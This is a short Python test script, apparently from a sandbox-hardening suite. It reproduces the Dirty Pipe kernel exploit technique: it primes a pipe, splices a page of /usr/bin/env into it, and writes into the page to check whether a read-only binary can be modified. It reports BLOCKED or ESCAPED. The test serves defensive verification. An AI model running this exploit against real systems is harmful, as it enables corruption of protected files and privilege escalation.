# attack: splices a page of the image into a pipe and writes into it, as Dirty Pipe did
# expect: outcome=ok
# expect-stdout: BLOCKED
# forbid-stdout: ESCAPED
import os

from attack import finish

file = os.open("/usr/bin/env", os.O_RDONLY)
before = os.pread(file, 64, 0)
reader, writer = os.pipe()
for _ in range(16):
    os.write(writer, b"x" * 4096)
for _ in range(16):
    os.read(reader, 4096)
try:
    os.splice(file, writer, 1, offset_src=0)
    os.write(writer, b"DIRTY")
except OSError as error:
    print(error)
after = os.pread(file, 64, 0)
finish("BLOCKED" if before == after else "ESCAPED")
